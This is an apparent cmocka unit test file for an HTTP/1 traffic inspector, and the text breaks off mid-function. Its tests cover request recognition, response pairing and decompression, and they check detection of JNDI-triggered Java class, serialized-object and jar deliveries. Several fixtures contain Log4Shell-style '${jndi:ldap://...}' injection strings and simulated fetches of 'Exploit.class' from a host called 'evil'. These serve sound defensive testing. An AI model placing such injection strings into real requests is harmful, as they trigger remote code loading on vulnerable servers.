/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Conversations: both directions of an HTTP/1 flow. The odd ways of framing one request are in
 * test_http_odd.c. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

#include <cmocka.h>

#include "base/count.h"
#include "inspect/hold.h"
#include "support/http_record.h"
#include "support/pack.h"

#define CLIENT 0
#define SERVER 1

/* A conversation: what is said, in turn. */
struct turn {
    unsigned side;
    const char *text;
    size_t len; /* 0: a string */
};

static struct http_record *talk(const struct turn *turns, size_t n, size_t step)
{
    struct http_record *r = http_record_new();

    count_reset();
    for (size_t i = 0; i < n; i++)
        http_record_steps(r, turns[i].side,
                          bytes_of(turns[i].text, turns[i].len ? turns[i].len : strlen(turns[i].text)), step);
    http_record_end(r);
    return r;
}

/* Whole, and the same in every step size up to 40. */
#define TALK(turns) talk_every_way(turns, sizeof turns / sizeof *turns)
static struct http_record *talk_every_way(const struct turn *turns, size_t n)
{
    struct http_record *whole = talk(turns, n, SIZE_MAX / 2);

    for (size_t step = 1; step <= 40; step++) {
        struct http_record *r = talk(turns, n, step);

        http_record_same(whole, r);
        http_record_free(r);
    }
    return whole;
}

static void assert_text(const struct http_record *r, enum field_kind kind, const char *text)
{
    if (!bytes_eq(buf_bytes(&r->of[kind]), bytes_str(text)))
        fail_msg("%s is: %.*s", field_rows[kind].name, (int)r->of[kind].len, (const char *)r->of[kind].p);
}

static void test_recognise(void **state)
{
    static const struct {
        const char *first;
        enum recognition cut, whole; /* when more may come, and when not */
    } rows[] = {
        {"GET / HTTP/1.1\r\n", RECOGNISE_REQUEST, RECOGNISE_REQUEST},
        {"GET / HTTP/1.1", RECOGNISE_MORE, RECOGNISE_REQUEST},
        {"\r\n\nGET / HTTP/1.0\n", RECOGNISE_REQUEST, RECOGNISE_REQUEST},
        {"GET /\r\n", RECOGNISE_REQUEST, RECOGNISE_REQUEST},
        {"GET / HTTP/1.1\rH", RECOGNISE_REQUEST, RECOGNISE_REQUEST},
        {"${jndi:ldap://h/a} / HTTP/1.1\r\n", RECOGNISE_REQUEST, RECOGNISE_REQUEST},
        {"${jndi:ldap://h/a}", RECOGNISE_MORE, RECOGNISE_NO},
        {"BREW /pot HTTP/1.1\n", RECOGNISE_REQUEST, RECOGNISE_REQUEST},
        {"BREW /pot\n", RECOGNISE_NO, RECOGNISE_NO},
        {"GET ${x} FTP/1.1\n", RECOGNISE_NO, RECOGNISE_NO},
        {"OPTIONS sip:a@b SIP/2.0\r\n", RECOGNISE_NO, RECOGNISE_NO},
        {"OPTIONS / RTSP/1.0\r\n", RECOGNISE_NO, RECOGNISE_NO},
        {"OPTIONS * HTTP/1.1\r\n", RECOGNISE_REQUEST, RECOGNISE_REQUEST},
        {"PRI * HTTP/2.0\r\n", RECOGNISE_NO, RECOGNISE_NO},
        {"EHLO mail.example.org\r\n", RECOGNISE_NO, RECOGNISE_NO},
        {"220 ready\r\n", RECOGNISE_NO, RECOGNISE_NO},
        {"USER anonymous\r\n", RECOGNISE_NO, RECOGNISE_NO},
        {"<34>1 web GET / HTTP/1.1\n", RECOGNISE_NO, RECOGNISE_NO},
        {"<34>1 web", RECOGNISE_NO, RECOGNISE_NO},
        {"127 <34>1 web", RECOGNISE_NO, RECOGNISE_NO},
        {"{\"message\":\"GET", RECOGNISE_NO, RECOGNISE_NO},
        {"SSH-2.0-OpenSSH_9.2\r\n", RECOGNISE_NO, RECOGNISE_NO},
        {"\x16\x03\x01", RECOGNISE_NO, RECOGNISE_NO},
        {"0\x0c\x02\x01\x01`\a", RECOGNISE_NO, RECOGNISE_NO},
        {"HTTP/1.1 200 OK\r\n", RECOGNISE_RESPONSE, RECOGNISE_RESPONSE},
        {"HTTP/1.1 200\n", RECOGNISE_RESPONSE, RECOGNISE_RESPONSE},
        {"HTTP/1.1 200 OK", RECOGNISE_MORE, RECOGNISE_RESPONSE},
        {"HTTP/1.1 /x HTTP/1.1\r\n", RECOGNISE_REQUEST, RECOGNISE_REQUEST},
        {"HTTP/1.1 200 HTTP/1.1\r\n", RECOGNISE_REQUEST, RECOGNISE_REQUEST},
        {"HTT", RECOGNISE_MORE, RECOGNISE_NO},
        {"\r\n", RECOGNISE_MORE, RECOGNISE_NO},
        {"", RECOGNISE_MORE, RECOGNISE_NO},
    };

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct bytes first = bytes_str(rows[i].first);

        for (size_t cut = 0; cut <= first.len; cut++) {
            uint8_t *exact = memcpy(malloc(cut + !cut), first.p, cut);
            enum recognition early = http1_inspector.recognise(bytes_of(exact, cut), PROTO_TCP, false);

            /* What a prefix says is never taken back. */
            if (early != RECOGNISE_MORE && early != rows[i].cut)
                fail_msg("%s cut at %zu", rows[i].first, cut);
            free(exact);
        }
        if (http1_inspector.recognise(first, PROTO_TCP, false) != rows[i].cut ||
            http1_inspector.recognise(first, PROTO_TCP, true) != rows[i].whole)
            fail_msg("%s", rows[i].first);
        assert_int_equal(http1_inspector.recognise(first, PROTO_UDP, true), RECOGNISE_NO);
    }
}

static void test_long_first_line(void **state)
{
    char line[9000];

    (void)state;
    memset(line, 'a', sizeof line);
    assert_int_equal(http1_inspector.recognise(bytes_of(line, 8191), PROTO_TCP, false), RECOGNISE_MORE);
    assert_int_equal(http1_inspector.recognise(bytes_of(line, 8192), PROTO_TCP, false), RECOGNISE_NO);
    memcpy(line, "GET /", 5);
    assert_int_equal(http1_inspector.recognise(bytes_of(line, 8192), PROTO_TCP, false), RECOGNISE_REQUEST);
}

static void test_transaction(void **state)
{
    static const struct turn turns[] = {
        {CLIENT,
         "POST /a?b HTTP/1.1\r\nHost: web\r\nUser-Agent: curl/8\r\nReferer: http://r/\r\n"
         "Content-Type: application/json; charset=utf-8\r\nContent-Length: 7\r\nX-Fold: a \r\n \t "
         "b\r\n\tc\r\n\r\n{\"a\":1}",
         0},
        {SERVER,
         "HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: "
         "5\r\n\r\nhello",
         0},
    };
    struct http_record *r = TALK(turns);

    (void)state;
    assert_text(r, FIELD_HTTP_METHOD, "0 =POST\n");
    assert_text(r, FIELD_HTTP_URI, "0 =/a?b\n");
    assert_text(r, FIELD_HTTP_PROTOCOL, "0 =HTTP/1.1\n");
    assert_text(r, FIELD_HTTP_REQUEST_HEADER,
                "0 Host=web\n0 User-Agent=curl/8\n0 Referer=http://r/\n"
                "0 Content-Type=application/json; charset=utf-8\n0 Content-Length=7\n0 X-Fold=a b c\n");
    assert_text(r, FIELD_HTTP_REQUEST_BODY, "0 3={\"a\":1}\n");
    assert_text(r, FIELD_HTTP_RESPONSE_LINE, "0 =HTTP/1.1 100 Continue\n0 =HTTP/1.1 200 OK\n");
    assert_text(r, FIELD_HTTP_RESPONSE_HEADER, "0 Content-Type=text/html\n0 Content-Length=5\n");
    assert_text(r, FIELD_HTTP_RESPONSE_BODY, "0 4=hello\n");
    assert_text(r, FIELD_RAW, "");
    assert_string_equal(r->view, "POST /a?b HTTP/1.1 web curl/8 http://r/ 200 text/html 5");
    assert_int_equal(counters[COUNT_HTTP_REQUESTS], 1);
    assert_int_equal(counters[COUNT_HTTP_RESPONSES], 2);
    http_record_free(r);
}

static void test_body_codings(void **state)
{
    static const struct {
        const char *type;
        enum field_coding coding;
    } rows[] = {
        {"application/x-www-form-urlencoded", FIELD_FORM},
        {"application/problem+json", FIELD_JSON},
        {"text/xml", FIELD_XML},
        {"application/soap+XML", FIELD_XML},
        {"text/html", FIELD_XML},
        {"text/plain", FIELD_PLAIN},
        {"multipart/form-data; boundary=x", FIELD_PLAIN},
    };

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct http_record *r = http_record_new();
        struct buf text = buf_within(1000);
        char want[16];

        buf_addf(&text, "POST / HTTP/1.1\r\ncontent-type:%s\r\ncontent-length:1\r\n\r\nx", rows[i].type);
        http_record_feed(r, CLIENT, buf_bytes(&text), 0, true);
        snprintf(want, sizeof want, "0 %d=x\n", (int)rows[i].coding);
        assert_text(r, FIELD_HTTP_REQUEST_BODY, want);
        http_record_free(r);
        buf_drop(&text);
    }
}

/* Responses are framed by what their request was: HEAD, 204 and 304 have none whatever they say. */
static void test_pairing(void **state)
{
    static const struct turn turns[] = {
        {CLIENT,
         "HEAD /0 HTTP/1.1\r\n\r\nGET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\nGET /3 HTTP/1.1\r\nHost: "
         "h\r\n\r\n",
         0},
        {SERVER,
         "HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\nHTTP/1.1 304 No\r\nContent-Length: 9\r\n\r\n"
         "HTTP/1.1 204 No\r\nTransfer-Encoding: chunked\r\n\r\nHTTP/1.1 404 No\r\nTransfer-Encoding: "
         "chunked\r\n\r\n"
         "3\r\nabc\r\n2\r\nde\r\n0\r\nX-Trailer: t\r\n\r\n",
         0},
    };
    struct http_record *r = TALK(turns);

    (void)state;
    assert_text(r, FIELD_HTTP_RESPONSE_LINE,
                "0 =HTTP/1.1 200 OK\n1 =HTTP/1.1 304 No\n2 =HTTP/1.1 204 No\n3 =HTTP/1.1 404 No\n");
    assert_text(r, FIELD_HTTP_RESPONSE_BODY, "3 0=abcde\n");
    assert_true(http_record_has(r, FIELD_HTTP_RESPONSE_HEADER, BYTES_LIT("3 X-Trailer=t\n")));
    assert_string_equal(r->view, "GET /3 HTTP/1.1 h   404  5");
    assert_text(r, FIELD_RAW, "");
    http_record_free(r);
}

/* More requests than are remembered: the later responses belong to nobody, and the ones after that are right
 * again. */
static void test_too_many_waiting(void **state)
{
    struct http_record *r = http_record_new();
    char text[64];

    (void)state;
    for (unsigned i = 0; i < 40; i++) {
        snprintf(text, sizeof text, "GET /%u HTTP/1.1\r\n\r\n", i);
        http_record_feed(r, CLIENT, bytes_str(text), 0, false);
    }
    for (unsigned i = 0; i < 40; i++) {
        http_record_feed(r, SERVER, BYTES_LIT("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"), 0, false);
        snprintf(text, sizeof text, i < 32 ? "GET /%u HTTP/1.1    200  0" : "      200  0", i);
        assert_string_equal(r->view, text);
        assert_int_equal(r->last_message, i);
    }
    http_record_feed(r, CLIENT, BYTES_LIT("GET /new HTTP/1.1\r\n\r\n"), 0, false);
    http_record_feed(r, SERVER, BYTES_LIT("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"), 0, false);
    assert_string_equal(r->view, "GET /new HTTP/1.1    200  0");
    http_record_free(r);
}

/* A response before any request: the flow was picked up in the middle. */
static void test_midstream(void **state)
{
    static const struct turn turns[] = {
        {SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi", 0}, {CLIENT, "HEAD / HTTP/1.1\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n", 0},   {CLIENT, "GET / HTTP/1.1\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nho", 0},
    };
    struct http_record *r = TALK(turns);

    (void)state;
    assert_text(r, FIELD_HTTP_RESPONSE_BODY, "0 0=hi\n1 0=ho\n");
    http_record_free(r);
}

static void test_tunnels(void **state)
{
    static const struct turn connect[] = {
        {CLIENT, "CONNECT h:443 HTTP/1.1\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 200 Connected\r\n\r\nserver bytes", 0},
        {CLIENT, "GET /inner HTTP/1.1\r\n\r\n", 0},
    };
    static const struct turn upgrade[] = {
        {CLIENT, "GET /ws HTTP/1.1\r\nUpgrade: websocket\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 101 Switching\r\n\r\nserver bytes", 0},
        {CLIENT, "client bytes", 0},
    };
    static const struct turn refused[] = {
        {CLIENT, "CONNECT h:443 HTTP/1.1\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 403 No\r\nContent-Length: 2\r\n\r\nno", 0},
        {CLIENT, "GET /inner HTTP/1.1\r\n\r\n", 0},
    };
    struct http_record *r = TALK(connect);

    (void)state;
    assert_true(r->given_up[CLIENT] && r->given_up[SERVER]);
    assert_text(r, FIELD_HTTP_URI, "0 =h:443\n");
    assert_true(http_record_has(r, FIELD_RAW, BYTES_LIT("GET /inner")));
    http_record_free(r);
    r = TALK(upgrade);
    assert_true(r->given_up[CLIENT] && r->given_up[SERVER]);
    http_record_free(r);
    r = TALK(refused);
    assert_text(r, FIELD_HTTP_URI, "0 =h:443\n1 =/inner\n");
    assert_text(r, FIELD_RAW, "");
    http_record_free(r);
}

/* --- Java on its way --- */

static const char class_file[] = "\xca\xfe\xba\xbe\0\0\0\x34\0\3"
                                 "\1\0\7Exploit\7\0\1"
                                 "\0\x21\0\2\0\0rest of the file";
static const char object[] = "\xac\xed\0\5sr\0\7a.Bcdef\0\0\0\0\0\0\0\1\2\0\0xp";

static void test_class_file(void **state)
{
    static const struct turn turns[] = {
        {CLIENT, "GET /Exploit.class HTTP/1.1\r\nUser-Agent: Java/1.8.0_181\r\nHost: evil:8000\r\n\r\n", 0},
        {SERVER, "HTTP/1.0 200 OK\r\nContent-Type: application/java-vm\r\n\r\n", 0},
        {SERVER, class_file, sizeof class_file - 1},
    };
    static const struct turn chunked[] = {
        {CLIENT, "GET /Exploit.class HTTP/1.1\r\nUser-Agent: Java/1.8.0_181\r\nHost: evil:8000\r\n\r\n", 0},
        {SERVER,
         "HTTP/1.1 200 OK\r\nContent-Type: application/java-vm\r\nTransfer-Encoding: "
         "chunked\r\n\r\n3\r\n\xca\xfe\xba\r\n29\r\n",
         0},
        {SERVER, class_file + 3, 41},
        {SERVER, "\r\n0\r\n\r\n", 0},
    };
    const char *fact =
        "0 %zu bytes jndi.stage=class_delivery java.content=class java.client=yes http.method=GET "
        "http.uri=/Exploit.class http.host=evil:8000 http.user_agent=Java/1.8.0_181 "
        "http.content_type=application/java-vm http.stat_code=200 java.fetch=delivered "
        "java.sha256=%s java.class=Exploit java.version=8\n";
    struct http_record *r = TALK(turns);
    char want[512];

    (void)state;
    snprintf(want, sizeof want, fact, sizeof class_file - 1,
             "6c18243fbfd7305350e9377f34cda318c384bef329c5754cddeadb4f4c9c706e");
    assert_text(r, FIELD_FACT, want);
    http_record_free(r);
    r = TALK(chunked);
    snprintf(want, sizeof want, fact, (size_t)44,
             "f7f1b02a44ee8c77983d4d14923139629365837f5a1f62fd77c8f4269dc16a2f");
    assert_text(r, FIELD_FACT, want);
    http_record_free(r);
    assert_int_equal(holds_bytes(), 0);
}

static void test_object(void **state)
{
    static const struct turn turns[] = {
        {CLIENT, "GET /o HTTP/1.1\r\nUser-Agent: curl\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 28\r\n\r\n", 0},
        {SERVER, object, sizeof object - 1},
    };
    struct http_record *r = TALK(turns);

    (void)state;
    assert_int_equal(sizeof object - 1, 28);
    assert_text(
        r, FIELD_FACT,
        "0 28 bytes jndi.stage=deserialization java.content=serialized java.client=no http.method=GET "
        "http.uri=/o http.user_agent=curl http.stat_code=200 java.fetch=delivered "
        "java.sha256=79d9fcd1232235456610e6f293d981ba216f84507a25bc820770db40855b78bd java.class=a.Bcdef\n");
    http_record_free(r);
}

/* What a JVM asked for may have it anywhere, behind whatever looks like it; what others asked for, at its
 * beginning only. */
static void test_java_inside(void **state)
{
    static const char junk[] = "GIF89a\xca\xca\xfe\xac\xed\0\6\xca\xfe\xba\xbe\0\0\0\2\xac";
    static const char *const agents[] = {"Java/17.0.15", "Java-http-client/17.0.15",
                                         "Mozilla/4.0 Java/1.8.0_181"};
    struct turn turns[] = {
        {CLIENT, NULL, 0},
        {SERVER, "HTTP/1.1 200 OK\r\n\r\n", 0},
        {SERVER, junk, sizeof junk - 1},
        {SERVER, object, sizeof object - 1},
        {SERVER, junk, sizeof junk - 1},
    };
    struct http_record *r;
    char request[128];

    (void)state;
    turns[0].text = request;
    for (size_t i = 0; i < sizeof agents / sizeof *agents; i++) {
        snprintf(request, sizeof request, "GET /o HTTP/1.1\r\nUser-Agent: %s\r\n\r\n", agents[i]);
        r = TALK(turns);
        assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.content=serialized java.client=yes")));
        assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.class=a.Bcdef\n")));
        http_record_free(r);
        turns[3] = (struct turn){SERVER, class_file, sizeof class_file - 1};
        r = TALK(turns);
        assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.content=class java.client=yes")));
        assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.class=Exploit java.version=8\n")));
        http_record_free(r);
        turns[3] = (struct turn){SERVER, object, sizeof object - 1};
    }
    snprintf(request, sizeof request, "GET /o HTTP/1.1\r\nUser-Agent: curl\r\n\r\n");
    r = TALK(turns);
    assert_text(r, FIELD_FACT, "");
    http_record_free(r);
    assert_int_equal(holds_bytes(), 0);
}

static void test_no_java(void **state)
{
    static const struct turn bodies[] = {
        {SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\n\xca\xfe\xba\xbe\0\0\0\2",
         46},                                                                        /* Mach-O, two parts */
        {SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\n\xca\xfe\xba\xbe", 0}, /* cannot be told */
        {SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\n\xac\xed\0", 41},
        {SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx", 0},
    };
    struct http_record *r = TALK(bodies);

    (void)state;
    assert_text(r, FIELD_FACT, "");
    assert_int_equal(counters[COUNT_HTTP_RESPONSES], 4);
    http_record_free(r);
}

/* A class acts once it is there: the FACT waits for its end. */
static void test_long_class(void **state)
{
    struct http_record *r = http_record_new();
    uint8_t body[40000] = {0};

    (void)state;
    memcpy(body, class_file, 8);
    body[8] = 0, body[9] = 4;
    body[10] = 1, body[11] = 0x0b, body[12] = 0xb8; /* a constant of 3000 bytes */
    memcpy(body + 3013, class_file + 10, 13);       /* Utf8, and a Class of constant 1: ours is 2 */
    body[3025] = 2;
    memcpy(body + 3026, "\0\x21\0\3", 4);
    http_record_feed(r, SERVER, BYTES_LIT("HTTP/1.1 200 OK\r\n\r\n"), 0, false);
    http_record_feed(r, SERVER, bytes_of(body, 3000), 0, false);
    assert_text(r, FIELD_FACT, "");
    http_record_feed(r, SERVER, bytes_of(body + 3000, 2000), 0, false);
    assert_text(r, FIELD_FACT, "");
    http_record_feed(r, SERVER, bytes_of(body, sizeof body), 0, true);
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("0 2048 bytes")));
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.class=Exploit java.version=8\n")));
    assert_int_equal(r->of[FIELD_FACT].len, strcspn((char *)r->of[FIELD_FACT].p, "\n") + 1);
    http_record_free(r);
}

/* ... or for so much of it that nobody waits any longer; then there is no hash. */
static void test_endless_class(void **state)
{
    static const uint8_t more[65536];
    struct http_record *r = http_record_new();

    (void)state;
    http_record_feed(r, SERVER, BYTES_LIT("HTTP/1.1 200 OK\r\n\r\n"), 0, false);
    http_record_feed(r, SERVER, bytes_of(class_file, sizeof class_file - 1), 0, false);
    for (unsigned i = 0; i < 15; i++)
        http_record_feed(r, SERVER, bytes_of(more, sizeof more), 0, false);
    assert_text(r, FIELD_FACT, "");
    http_record_feed(r, SERVER, bytes_of(more, sizeof more), 0, false);
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.fetch=delivered java.class=Exploit")));
    http_record_feed(r, SERVER, bytes_of(more, sizeof more), 0, true);
    assert_int_equal(r->of[FIELD_FACT].len, strcspn((char *)r->of[FIELD_FACT].p, "\n") + 1);
    http_record_free(r);
}

#define JAR_HEAD "PK\3\4\x14\0\x08\x08\x08\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"

static void test_jar(void **state)
{
    static const char jar[] =
        JAR_HEAD "\x14\0\0\0META-INF/MANIFEST.MFxxxx" JAR_HEAD "\x0b\0\0\0a/Bad.classxyz";
    static const char zip[] = JAR_HEAD "\x05\0\0\0a.txtxxxx" JAR_HEAD "\x05\0\0\0b.txtxyz";
    static const struct turn turns[] = {
        {CLIENT, "GET /x HTTP/1.1\r\nUser-Agent: curl\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 98\r\n\r\n", 0},
        {SERVER, jar, sizeof jar - 1},
    };
    static const struct turn plain[] = {
        {CLIENT, "GET /x HTTP/1.1\r\nUser-Agent: curl\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 200 OK\r\n\r\n", 0},
        {SERVER, zip, sizeof zip - 1},
    };
    struct http_record *r = TALK(turns);

    (void)state;
    assert_int_equal(sizeof jar - 1, 98);
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.content=jar java.client=no")));
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.class=a/Bad\n")));
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("java.sha256=")));
    http_record_free(r);
    r = TALK(plain);
    assert_text(r, FIELD_FACT, "");
    http_record_free(r);
}

/* Byte by byte, compressed, and what the client or the name says decides whether it is unpacked at all. */
static void test_packed_class(void **state)
{
    static const struct {
        const char *request, *type;
        bool found;
    } rows[] = {
        {"GET /a HTTP/1.1\r\nUser-Agent: Java/17.0.15\r\n\r\n", "Content-Type: text/html\r\n", true},
        {"GET /a.class?x HTTP/1.1\r\nUser-Agent: curl\r\n\r\n", "Content-Type: text/html\r\n", true},
        {"GET /a HTTP/1.1\r\nUser-Agent: curl\r\n\r\n", "", true},
        {"GET /a HTTP/1.1\r\nUser-Agent: curl\r\n\r\n", "Content-Type: text/html\r\n", false},
    };
    struct buf packed = buf_within(1 << 20);

    (void)state;
    pack(PACK_GZIP, bytes_of(class_file, sizeof class_file - 1), 6, &packed);
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++)
        for (size_t step = 1; step <= packed.len; step += packed.len - 1) {
            struct http_record *r = http_record_new();
            char head[256];

            snprintf(head, sizeof head,
                     "HTTP/1.1 200 OK\r\n%sContent-Encoding: gzip\r\nContent-Length: %zu\r\n\r\n",
                     rows[i].type, packed.len);
            http_record_feed(r, CLIENT, bytes_str(rows[i].request), 0, false);
            http_record_feed(r, SERVER, bytes_str(head), 0, false);
            for (size_t at = 0; at < packed.len; at += step)
                http_record_feed(r, SERVER, bytes_slice(buf_bytes(&packed), at, at + step), 0, false);
            assert_int_equal(http_record_has(r, FIELD_FACT, BYTES_LIT("java.class=Exploit java.version=8\n")),
                             rows[i].found);
            http_record_free(r);
        }
    buf_drop(&packed);
}

/* Whatever way an answer is packed, labelled or not and in whatever pieces, its beginning is shown; and no
 * more of it than of a plain one. */
static void test_packed_answer(void **state)
{
    static const char *const labels[PACK_N] = {"gzip", "deflate", "deflate", "zstd", "br"};
    const struct bytes attack = BYTES_LIT("x=${jndi:ldap://h/a}");
    struct buf plain = buf_within(1 << 20);

    (void)state;
    buf_add(&plain, attack);
    for (unsigned i = 0; i < 4000; i++)
        buf_addf(&plain, "<p>%u</p>", i * 7919);
    buf_add_str(&plain, "${jndi:ldap://h/late}");
    for (unsigned how = 0; how < PACK_N; how++)
        for (size_t step = 1; step < 1000; step += 998) {
            struct http_record *r = http_record_new();
            struct buf all = buf_within(1 << 20), packed = buf_within(1 << 20);

            count_reset();
            pack((enum packing)how, buf_bytes(&plain), 6, &packed);
            buf_addf(&all, "HTTP/1.1 200 OK\r\nContent-Encoding: %s\r\nContent-Length: %zu\r\n\r\n",
                     labels[how], packed.len);
            buf_add(&all, buf_bytes(&packed));
            buf_add_str(&all, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nnext");
            http_record_steps(r, SERVER, buf_bytes(&all), step);
            http_record_end(r);
            assert_true(http_record_has(r, FIELD_HTTP_RESPONSE_BODY, attack));
            assert_false(http_record_delivers(r, BYTES_LIT("h/late")));
            assert_true(http_record_has(r, FIELD_HTTP_RESPONSE_BODY, BYTES_LIT("=next\n")));
            assert_true(r->of[FIELD_HTTP_RESPONSE_BODY].len < r->config.http_response_body_limit + 100);
            assert_true(counters[COUNT_HTTP_RESPONSE_SKIPPED] > 0);
            assert_int_equal(counters[COUNT_HTTP_BAD_CODING] + counters[COUNT_HTTP_BOMB], 0);
            http_record_free(r);
            buf_drop(&all);
            buf_drop(&packed);
        }
    buf_drop(&plain);
}

static void test_packed_answer_of_another_label(void **state)
{
    const struct bytes attack = BYTES_LIT("${jndi:ldap://h/a}");
    static const char *const labels[] = {"", "Content-Encoding: br\r\n", "Content-Encoding: unheard-of\r\n"};

    (void)state;
    for (size_t i = 0; i < sizeof labels / sizeof *labels; i++)
        for (unsigned packs = 0; packs < 2; packs++) {
            struct http_record *r = http_record_new();
            struct buf packed = buf_within(1 << 20);

            buf_addf(&packed, "HTTP/1.1 200 OK\r\n%s\r\n", labels[i]);
            if (packs)
                pack(PACK_GZIP, attack, 6, &packed);
            else
                buf_add(&packed, attack);
            http_record_feed(r, SERVER, buf_bytes(&packed), 0, false);
            http_record_end(r);
            assert_true(http_record_has(r, FIELD_HTTP_RESPONSE_BODY, attack));
            http_record_free(r);
            buf_drop(&packed);
        }
}

static void test_packed_answers_can_be_left(void **state)
{
    struct http_record *r = http_record_new();
    struct buf packed = buf_within(1 << 20);

    (void)state;
    r->config.http_decompress_responses = false;
    buf_add_str(&packed, "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n");
    pack(PACK_GZIP, BYTES_LIT("${jndi:ldap://h/a}"), 6, &packed);
    http_record_feed(r, SERVER, buf_bytes(&packed), 0, false);
    http_record_end(r);
    assert_false(http_record_delivers(r, BYTES_LIT("${jndi:ldap://h/a}")));
    http_record_free(r);
    buf_drop(&packed);
}

static void test_fetch_that_leads_nowhere(void **state)
{
    static const struct turn turns[] = {
        {CLIENT, "GET /A.class HTTP/1.1\r\nUser-Agent: Java/1.8.0_181\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 302 Found\r\nLocation: http://203.0.113.9/b.class\r\nContent-Length: 0\r\n\r\n",
         0},
        {CLIENT, "GET /b.class HTTP/1.1\r\nUser-Agent: Java/1.8.0_181\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 404 Not Found\r\nContent-Length: 1\r\n\r\nx", 0},
        {CLIENT, "GET /c HTTP/1.1\r\nUser-Agent: Java/1.8.0_181\r\n\r\n", 0}, /* no class: nobody's affair */
        {SERVER, "HTTP/1.1 404 Not Found\r\nContent-Length: 1\r\n\r\nx", 0},
        {CLIENT, "GET /d.class HTTP/1.1\r\nUser-Agent: curl\r\n\r\n", 0},
        {SERVER, "HTTP/1.1 404 Not Found\r\nContent-Length: 1\r\n\r\nx", 0},
    };
    struct http_record *r = TALK(turns);

    (void)state;
    assert_true(http_record_has(r, FIELD_FACT,
                                BYTES_LIT("http.stat_code=302 java.fetch=redirected "
                                          "http.location=http://203.0.113.9/b.class\n")));
    assert_true(http_record_has(r, FIELD_FACT, BYTES_LIT("http.stat_code=404 java.fetch=failed\n")));
    assert_false(http_record_has(r, FIELD_FACT, BYTES_LIT("http.uri=/c")));
    assert_false(http_record_has(r, FIELD_FACT, BYTES_LIT("http.uri=/d.class")));
    http_record_free(r);
}

/* URLConnection gives a class loader what comes with 200, or with a redirection that it does not follow; the
 * page of an error is thrown away. */
static void test_class_that_is_not_read(void **state)
{
    static const struct {
        const char *path, *agent, *answer, *fact;
    } rows[] = {
        {"/A.class", "Java/17.0.15", "404 No\r\n", ""},
        {"/A.class", "Java/17.0.15", "500 No\r\n", ""},
        {"/A.class", "Java/17.0.15", "302 Found\r\nLocation: /b\r\n", ""},
        {"/a", "Java/17.0.15", "404 No\r\n", "callback java.content=class @ java.fetch=failed"},
        {"/a", "Java/17.0.15", "302 Found\r\nLocation: /b\r\n",
         "callback java.content=class @ java.fetch=redirected"},
        {"/A.class", "Java/17.0.15", "302 Found\r\nLocation: https://b/\r\n",
         "class_delivery java.content=class @ java.fetch=delivered"},
        {"/A.class", "Java/17.0.15", "302 Found\r\n",
         "class_delivery java.content=class @ java.fetch=delivered"},
        {"/A.class", "Java/17.0.15", "308 Found\r\nLocation: http://b/\r\n",
         "class_delivery java.content=class @ java.fetch=delivered"},
        /* Others keep what they get. */
        {"/A.class", "Java-http-client/17.0.15", "404 No\r\n",
         "class_delivery java.content=class @ java.fetch=delivered"},
        {"/A.class", "curl/7.88.1", "404 No\r\n", "class_delivery java.content=class @ java.fetch=delivered"},
    };
    char request[128], head[128], fact[256];

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        bool jvm = rows[i].agent[0] == 'J';
        const char *at = strchr(rows[i].fact, '@');
        const struct turn turns[] = {
            {CLIENT, request, 0}, {SERVER, head, 0}, {SERVER, class_file, sizeof class_file - 1}};
        struct http_record *r;

        snprintf(request, sizeof request, "GET %s HTTP/1.1\r\nUser-Agent: %s\r\n\r\n", rows[i].path,
                 rows[i].agent);
        snprintf(head, sizeof head, "HTTP/1.1 %sContent-Length: %zu\r\n\r\n", rows[i].answer,
                 sizeof class_file - 1);
        r = TALK(turns);
        snprintf(fact, sizeof fact,
                 "jndi.stage=%.*sjava.client=%s http.method=GET http.uri=%s http.user_agent=%s "
                 "http.stat_code=%.3s%s",
                 at ? (int)(at - rows[i].fact) : 0, rows[i].fact, jvm ? "yes" : "no", rows[i].path,
                 rows[i].agent, rows[i].answer, at ? at + 1 : "");
        if (at && !http_record_has(r, FIELD_FACT, bytes_str(fact)))
